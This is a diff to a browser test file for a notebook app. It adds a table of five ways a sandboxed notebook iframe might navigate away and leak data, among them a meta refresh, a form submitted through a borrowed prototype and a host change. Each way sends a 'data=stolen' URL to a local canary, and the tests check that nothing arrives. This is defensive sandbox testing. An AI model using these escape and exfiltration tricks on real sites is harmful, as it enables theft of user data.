@@ -64,18 +64,37 @@ test('a second handshake ends the frame', async ({ person, client }) => {
   await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
 })
 
-test('a frame that leaves is stopped and ended: data in an address reaches nobody', async ({ person, client }) => {
-  await (await client('Colleague')).notebook('leaving', notebookOf('"here"'))
-  const page = await person('Colleague')
-  await openNotebook(page, 'leaving')
-  const first = await iframe(page, 'leaving').getAttribute('src')
-  const before = canary.heard.length
-  await (await inside(page, 'leaving')).evaluate((url) => {
+const WAYS_OUT: Record<string, (url: string) => void> = {
+  'an address': (url) => {
     location.href = url
-  }, `${canary.origin}/left?data=stolen`)
-  await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
-  expect(canary.heard.length).toBe(before)
-})
+  },
+  'a refresh': (url) => {
+    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${url}` }))
+  },
+  'a form, by the browser’s own submit': (url) => {
+    const inner = document.body.appendChild(document.createElement('iframe')).contentWindow as Window & typeof globalThis
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: url })
+    document.body.append(form)
+    inner.HTMLFormElement.prototype.submit.call(form)
+  },
+  'another content host': () => {
+    location.host = `${'s'.repeat(26)}${location.host.slice(location.host.indexOf('.'))}`
+  },
+  'a reload': () => location.reload(),
+}
+
+for (const [way, leave] of Object.entries(WAYS_OUT))
+  test(`a frame that leaves by ${way} is ended, and nothing arrives anywhere`, async ({ person, client }) => {
+    const name = `leaving by ${way}`
+    await (await client('Colleague')).notebook(name, notebookOf('"here"'))
+    const page = await person('Colleague')
+    await openNotebook(page, name)
+    const first = await iframe(page, name).getAttribute('src')
+    const before = canary.heard.length
+    await (await inside(page, name)).evaluate(leave, `${canary.origin}/left?data=stolen`).catch(() => undefined) // its world may be gone
+    await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
+    expect(canary.heard.length).toBe(before)
+  })
 
 test('frames are strangers to each other and to the shell', async ({ person, client }) => {
   const colleague = await client('Colleague')
